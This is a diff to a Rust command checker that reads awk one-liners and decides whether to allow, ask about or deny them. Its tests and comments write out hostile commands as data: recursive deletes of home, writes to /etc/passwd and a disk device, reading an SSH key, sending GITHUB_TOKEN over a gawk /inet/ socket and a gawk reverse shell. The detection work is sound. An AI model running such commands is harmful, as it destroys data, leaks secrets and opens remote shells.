@@ -21,9 +21,14 @@ declare_check! {
     /// (`os.system`, `subprocess`, `exec(`, `eval(`, `popen`, `system(`, backticks,
     /// `child_process`), writing or deleting (`open(…, 'w')`, `shutil.rmtree`, `os.remove`,
     /// `unlink`, `writeFile`), or networking (`socket`, `urllib`, `fetch(`) → ask (high); sed's
-    /// `e`/`w`/`W` commands and `s///e`/`s///w`, awk's `system(`, `| getline`, `print >` → ask
-    /// (high). Denied when the payload shows a catastrophe: a shell string or argument list that
-    /// is one (`os.system('rm -rf /')`, `subprocess.call(['rm','-rf','/'])`), a recursive delete
+    /// `e`/`w`/`W` commands and `s///e`/`s///w` → ask (high). awk programs are read by the awk
+    /// reader (`src/analyze/awk.rs`): `system(…)`, `cmd | getline`, `print … | cmd`, `|&`,
+    /// `print … > file` (not standard output or error), `/inet/` files, `@load`, `@include`,
+    /// indirect calls and a program it cannot finish → ask (high); a command that is a
+    /// catastrophe, text printed to a shell that is one, a write to an account file or a device,
+    /// a network connection with a command, a secret variable or the environment → deny; a
+    /// secret file read by `getline <` → ask. Denied when the payload shows a catastrophe: a
+    /// shell string or argument list that is one (`os.system('rm -rf /')`, `subprocess.call(['rm','-rf','/'])`), a recursive delete
     /// API on `/` or the home directory (`shutil.rmtree('/')`, `rmtree("/")`,
     /// `Deno.removeSync('/', {recursive: true})`), a socket wired to a shell (reverse shell), a
     /// fork loop, a signal to every process (`os.kill(-1, 9)`, `process.kill(-1)`,
@@ -125,23 +130,6 @@ fn code_of(u: &Unit) -> Option<(String, String)> {
             l == "-c" || l == "-command" || l == "-encodedcommand" || l == "-e" || l == "-enc"
         }),
         "other" => after(&|t| matches!(t, "-e" | "-eval" | "--eval" | "-c")),
-        // `awk -v c='rm -rf ~' 'BEGIN{system(c)}'`: the values are part of the program.
-        "awk" => awk_program(&w).map(|prog| {
-            let mut code = prog;
-            for (k, t) in w.iter().enumerate() {
-                let value = if matches!(*t, "-v" | "--assign") {
-                    w.get(k + 1).copied()
-                } else {
-                    t.strip_prefix("-v").filter(|v| v.contains('='))
-                };
-                if let Some((_, v)) = value.and_then(|v| v.split_once('=')) {
-                    code.push_str("\n\"");
-                    code.push_str(&v.replace('"', ""));
-                    code.push('"');
-                }
-            }
-            code
-        }),
         "sed" => crate::analyze::sed::script_of(&w),
         _ => None,
     }?;
@@ -166,32 +154,6 @@ fn lang_of(p: &str) -> Option<&'static str> {
         _ if is_interpreter(p) || matches!(trimmed, "emacs" | "ghc" | "swift") => "other",
         _ => return None,
     })
-}
-
-fn awk_program(w: &[&str]) -> Option<String> {
-    let mut k = 0;
-    while k < w.len() {
-        let t = w[k];
-        if matches!(
-            t,
-            "-F" | "-v" | "-i" | "-l" | "--assign" | "--field-separator"
-        ) {
-            k += 2;
-            continue;
-        }
-        if t == "-f" || t.starts_with("--file") {
-            return None;
-        }
-        if t == "--" {
-            return w.get(k + 1).map(|s| (*s).to_owned());
-        }
-        if t.starts_with('-') && t.len() > 1 {
-            k += 1;
-            continue;
-        }
-        return Some(t.to_owned());
-    }
-    None
 }
 
 /// String literals of a program: '…', "…", `…`, in order.
@@ -351,7 +313,6 @@ const NETWORK: Words = words![
     "TCPSocket",
     "Invoke-WebRequest",
     "Net.WebClient",
-    "/inet/",
     "file_get_contents(\"http",
     "file_get_contents('http",
 ];
@@ -558,7 +519,6 @@ fn scan(lang: &str, code: &str, cwd: &Path) -> Option<(Decision, String)> {
         "Socket",
         "fsockopen",
         "TCPSocket",
-        "/inet/tcp",
         "/dev/tcp/",
         "net.connect",
         "createConnection",
@@ -586,8 +546,7 @@ fn scan(lang: &str, code: &str, cwd: &Path) -> Option<(Decision, String)> {
     ]
     .iter()
     .any(|m| code.contains(m));
-    if sock && execs || code.contains("/inet/") && (code.contains("|&") || code.contains("system("))
-    {
+    if sock && execs {
         return Some((
             Decision::Deny,
             "its code connects a socket to a shell (reverse shell)".to_owned(),
@@ -603,20 +562,9 @@ fn scan(lang: &str, code: &str, cwd: &Path) -> Option<(Decision, String)> {
             "its code forks in a loop (fork bomb)".to_owned(),
         ));
     }
-    let writes = WRITES
-        .iter()
-        .find(|m| {
-            code.contains(m) && (!matches!(*m, "open(" | "fopen") || opens_for_writing(&lits))
-        })
-        .or(
-            if lang == "awk"
-                && (code.contains("print >") || code.contains("printf >") || code.contains(">>"))
-            {
-                Some("print >")
-            } else {
-                None
-            },
-        );
+    let writes = WRITES.iter().find(|m| {
+        code.contains(m) && (!matches!(*m, "open(" | "fopen") || opens_for_writing(&lits))
+    });
     // Perl's `open(F, ">/etc/passwd")`: the mode is part of the name.
     let perl_target = lits.iter().find_map(|l| {
         let t = l.strip_prefix("+<").or_else(|| l.strip_prefix('>'))?;
@@ -702,19 +650,6 @@ fn scan(lang: &str, code: &str, cwd: &Path) -> Option<(Decision, String)> {
     if lang == "sed" {
         return sed_scan(code, cwd);
     }
-    if lang == "awk" {
-        let m = shell.or_else(|| {
-            ["print >", "printf >", ">>", "/inet/"]
-                .into_iter()
-                .find(|m| code.contains(m))
-        });
-        return m.map(|m| {
-            (
-                Decision::Ask,
-                format!("the awk program runs commands or writes files (`{m}`)"),
-            )
-        });
-    }
     if let Some(m) = shell.or(writes).or(net) {
         return Some((
             Decision::Ask,
@@ -771,13 +706,9 @@ fn kills_everything(code: &str) -> Option<&'static str> {
 }
 
 /// The first marker of the code running a command: shelling out in a general-purpose language,
-/// `system(`, a pipe to or from a command in awk, the `e` command in sed.
+/// the `e` command in sed.
 fn runs_commands(lang: &str, code: &str) -> Option<&'static str> {
     match lang {
-        "awk" => ["system(", "system (", "getline", "|&"]
-            .into_iter()
-            .find(|m| code.contains(m))
-            .or_else(|| awk_pipes(code).then_some("print … | command")),
         // `sed_scan` reads the `e` command and `s///e` itself.
         "sed" => Some("sed"),
         _ => SHELL_OUT.iter().find(|m| code.contains(m)),
@@ -827,45 +758,6 @@ fn decode_hex(l: &str) -> Option<String> {
         .map(|i| u8::from_str_radix(t.get(i..i + 2)?, 16).ok())
         .collect();
     String::from_utf8(bytes?).ok()
-}
-
-/// Does an awk program pipe output to a command (`print … | "sh"`, `print | cmd`)? A `|` outside
-/// strings, `/regex/` literals and `||` is a pipe: awk has no other use for it.
-fn awk_pipes(code: &str) -> bool {
-    let b = code.as_bytes();
-    let mut k = 0;
-    // After an operand a `/` divides; anywhere else it opens a regex.
-    let mut operand = false;
-    while k < b.len() {
-        match b[k] {
-            b'"' => {
-                k += 1;
-                while k < b.len() && b[k] != b'"' {
-                    k += if b[k] == b'\\' { 2 } else { 1 };
-                }
-                operand = true;
-            }
-            b'/' if !operand => {
-                k += 1;
-                while k < b.len() && b[k] != b'/' {
-                    k += if b[k] == b'\\' { 2 } else { 1 };
-                }
-                operand = true;
-            }
-            b'|' if b.get(k + 1) == Some(&b'|') => {
-                k += 1;
-                operand = false;
-            }
-            b'|' => return true,
-            c if c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$' | b')' | b']') => {
-                operand = true;
-            }
-            c if c.is_ascii_whitespace() => {}
-            _ => operand = false,
-        }
-        k += 1;
-    }
-    false
 }
 
 /// `open(…)` / `fopen(…)` with a mode that writes (`'w'`, `"a"`, `'r+'`, `"xb"`…). Without one a
@@ -938,6 +830,130 @@ fn sed_write(file: &str) -> (Decision, String) {
     }
 }
 
+/// An awk program read by the awk reader: commands it runs (a catastrophe denies), files it
+/// writes (account files and devices deny), secrets it reads, the network (with a secret or a
+/// command: deny), code it loads or calls indirectly, or a program the reader could not finish.
+fn awk_scan(
+    program: &str,
+    assigns: &[(Option<String>, Option<String>)],
+    cwd: &Path,
+) -> Option<(Decision, String)> {
+    use crate::analyze::awk::{self, AwkEffect};
+    let read = awk::read_with(program, assigns);
+    let network = read.effects.contains(&AwkEffect::Network);
+    let mut found: Option<(Decision, String)> = read.opaque.then(|| {
+        (
+            Decision::Ask,
+            "the awk reader could not read the whole program".to_owned(),
+        )
+    });
+    let runs = |cmd: &Option<String>, how: &str| match cmd {
+        Some(c) => catastrophe_in_code(c.trim(), cwd).map_or_else(
+            || {
+                (
+                    Decision::Ask,
+                    format!("the awk program runs `{}` ({how})", c.trim()),
+                )
+            },
+            |x| (Decision::Deny, format!("its {how} runs {x}")),
+        ),
+        None => (
+            Decision::Ask,
+            format!("the awk program runs a command computed at run time ({how})"),
+        ),
+    };
+    let any_command = read.effects.iter().any(|e| {
+        matches!(
+            e,
+            AwkEffect::Exec(_) | AwkEffect::Pipe { .. } | AwkEffect::IndirectCall
+        )
+    });
+    for effect in &read.effects {
+        let f = match effect {
+            AwkEffect::Exec(cmd) => Some(runs(cmd, "`system` or `| getline`")),
+            AwkEffect::Pipe { command, input } => {
+                let mut f = runs(command, "`print | command`");
+                // `print "rm -rf /" | "sh"`: the printed text is the shell's code.
+                if let (Some(c), Some(text)) = (command, input)
+                    && awk::shell_reads_stdin(c)
+                    && let Some(x) = catastrophe_in_code(text, cwd)
+                {
+                    f = (
+                        Decision::Deny,
+                        format!("it prints to `{c}` code that runs {x}"),
+                    );
+                }
+                Some(f)
+            }
+            AwkEffect::Write {
+                target: Some(t), ..
+            } if awk::harmless_output(t) => None,
+            AwkEffect::Write {
+                target: Some(t), ..
+            } => Some(if is_block_device(t) {
+                (
+                    Decision::Deny,
+                    format!("the awk program writes to the device `{t}`"),
+                )
+            } else if is_account_file(t) {
+                (Decision::Deny, format!("the awk program writes to `{t}`"))
+            } else {
+                (Decision::Ask, format!("the awk program writes to `{t}`"))
+            }),
+            AwkEffect::Write { target: None, .. } => Some((
+                Decision::Ask,
+                "the awk program writes to a file named at run time".to_owned(),
+            )),
+            AwkEffect::Read(Some(f)) if word_is_secret(f) => Some(if network {
+                (
+                    Decision::Deny,
+                    format!("the awk program reads `{f}` and uses the network (`/inet/`)"),
+                )
+            } else {
+                (
+                    Decision::Ask,
+                    format!("the awk program reads the secret `{f}`"),
+                )
+            }),
+            AwkEffect::Env(name) if network => match name {
+                Some(n) if is_secret_var(n) => Some((
+                    Decision::Deny,
+                    format!("its code sends the secret variable `{n}` over the network (`/inet/`)"),
+                )),
+                Some(_) => None,
+                None => Some((
+                    Decision::Deny,
+                    "its code sends the environment over the network (`/inet/`)".to_owned(),
+                )),
+            },
+            AwkEffect::Read(_) | AwkEffect::Env(_) => None,
+            AwkEffect::Network if any_command => Some((
+                Decision::Deny,
+                "its code connects a socket to a shell (reverse shell)".to_owned(),
+            )),
+            AwkEffect::Network => Some((
+                Decision::Ask,
+                "the awk program opens a network connection (`/inet/`)".to_owned(),
+            )),
+            AwkEffect::Load(_) | AwkEffect::Include(_) => Some((
+                Decision::Ask,
+                "the awk program loads code from a file (`@load`, `@include`)".to_owned(),
+            )),
+            AwkEffect::IndirectCall => Some((
+                Decision::Ask,
+                "the awk program calls a function named at run time (`@f()`), `system` included"
+                    .to_owned(),
+            )),
+        };
+        if let Some(f) = f
+            && found.as_ref().is_none_or(|(d, _)| f.0 > *d)
+        {
+            found = Some(f);
+        }
+    }
+    found
+}
+
 /// Heredoc or here-string text fed to the unit, read from the input.
 pub(crate) fn fed_text(cx: &CheckCtx, idx: usize, u: &Unit) -> Option<String> {
     // The analyzer records static standard input (decoded, also inside `bash -c '…'`).
@@ -980,6 +996,32 @@ pub(crate) fn fed_text(cx: &CheckCtx, idx: usize, u: &Unit) -> Option<String> {
 impl Check for InterpreterOneLiner {
     fn run(&self, cx: &CheckCtx, out: &mut Vec<Finding>) {
         for (i, u) in cx.analysis.units.iter().enumerate() {
+            let report = |out: &mut Vec<Finding>, d: Decision, why: String| {
+                let p = prog(u).unwrap_or("?");
+                out.push(match d {
+                    Decision::Deny => deny(Some(i), u.span, format!("`{p}` one-liner: {why}")),
+                    _ => ask(
+                        Some(i),
+                        u.span,
+                        Risk::High,
+                        format!("`{p}` one-liner: {why}"),
+                    ),
+                });
+            };
+            if prog(u).is_some_and(|p| lang_of(base(p)) == Some("awk")) {
+                use crate::analyze::awk::{self, Source};
+                let inv = awk::invocation(&u.argv);
+                // `awk -f - <<< PROGRAM`, `awk -f /dev/stdin`: the program is standard input.
+                let program = match inv.source {
+                    Source::Text(t) => Some(t),
+                    Source::Stdin => fed_text(cx, i, u),
+                    Source::Unread => None,
+                };
+                if let Some((d, why)) = program.and_then(|t| awk_scan(&t, &inv.assigns, cx.cwd)) {
+                    report(out, d, why);
+                }
+                continue;
+            }
             let found = code_of(u).or_else(|| {
                 let p = prog(u)?;
                 if !is_interpreter(p) {
@@ -987,17 +1029,6 @@ impl Check for InterpreterOneLiner {
                 }
                 let lang = lang_of(base(p)).unwrap_or("other");
                 fed_text(cx, i, u).map(|t| (lang.to_owned(), t))
-            });
-            let found = found.or_else(|| {
-                // `awk -f - <<< PROGRAM`, `awk -f /dev/stdin`: the program is standard input.
-                let p = prog(u)?;
-                (lang_of(base(p)) == Some("awk")
-                    && u.args().map(text).collect::<Vec<_>>().windows(2).any(|w| {
-                        matches!(w[0], "-f" | "--file") && matches!(w[1], "-" | "/dev/stdin")
-                    }))
-                .then(|| fed_text(cx, i, u))
-                .flatten()
-                .map(|t| ("awk".to_owned(), t))
             });
             let Some((lang, mut code)) = found else {
                 continue;
@@ -1013,16 +1044,7 @@ impl Check for InterpreterOneLiner {
                 code.push_str(&fed);
             }
             if let Some((d, why)) = scan(&lang, &code, cx.cwd) {
-                let p = prog(u).unwrap_or("?");
-                out.push(match d {
-                    Decision::Deny => deny(Some(i), u.span, format!("`{p}` one-liner: {why}")),
-                    _ => ask(
-                        Some(i),
-                        u.span,
-                        Risk::High,
-                        format!("`{p}` one-liner: {why}"),
-                    ),
-                });
+                report(out, d, why);
             }
         }
     }
@@ -1140,6 +1162,46 @@ mod tests {
             ),
             ("python3 -c \"open('/etc/passwd', 'a').write('x')\"", d),
             ("awk '{print $1}' f", None),
+            // The awk reader: text in strings, comparisons and divisions are no effects.
+            ("awk '{ print \"<a>\" $1 \"</a>\" }' f", None),
+            ("awk '{print ($1 > 2)}' f", None),
+            ("awk '{print $1 > \"/dev/stdout\"}' f", None),
+            ("awk '{print $1, $2 > \"out\"}' f", a),
+            ("awk '{ x = a / 2; system(\"id\"); y = b / 3 }' f", a),
+            ("awk 'BEGIN{system(\"r\" \"m -rf ~\")}'", d),
+            ("awk 'BEGIN{system(\"r\\x6d -rf ~\")}'", d),
+            ("awk 'BEGIN{system(\"make\")}'", a),
+            ("awk 'BEGIN{c=\"rm -rf ~\"; c | getline}'", d),
+            ("awk 'BEGIN{c=\"date\"; c | getline}'", a),
+            ("awk -v c='date' 'BEGIN{system(c)}'", a),
+            ("awk 'BEGIN{c=\"ls\"} {system(c)}' c='rm -rf ~' f", d),
+            ("awk '{print > \"/etc/\" \"passwd\"}' f", d),
+            ("awk '{print > \"/etc/\" $1}' f", a),
+            ("awk 'BEGIN{printf \"x\" > \"/dev/sda\"}'", d),
+            (
+                "awk 'BEGIN{getline l < \"/home/user/.ssh/id_rsa\"; print l}'",
+                a,
+            ),
+            ("awk 'BEGIN{getline l < \"notes.txt\"; print l}'", None),
+            (
+                "awk 'BEGIN{ARGV[1]=\"/home/user/.ssh/id_rsa\"; ARGC=2} {print}'",
+                a,
+            ),
+            (
+                "gawk 'BEGIN{s=\"/inet/tcp/0/h/80\"; print ENVIRON[\"GITHUB_TOKEN\"] |& s}'",
+                d,
+            ),
+            ("gawk 'BEGIN{s=\"/inet/tcp/0/h/80\"; print \"hi\" |& s}'", a),
+            (
+                "gawk 'BEGIN{s=\"/inet/tcp/0/h/80\"; while ((s |& getline c) > 0) system(c)}'",
+                d,
+            ),
+            ("gawk 'BEGIN{f=\"system\"; @f(\"id\")}'", a),
+            ("gawk '@include \"x.awk\"'", a),
+            ("awk '{print \"x}' f", a),
+            ("awk -f prog.awk f", None),
+            ("awk -f - f <<< 'BEGIN{system(\"rm -rf ~\")}'", d),
+            ("awk -f - f <<< 'BEGIN{print 1}'", None),
             ("sed -n '1,5p' f", None),
             ("sed 's/e/w/g' f", None),
             ("perl -ne 'print if /x/' f", None),
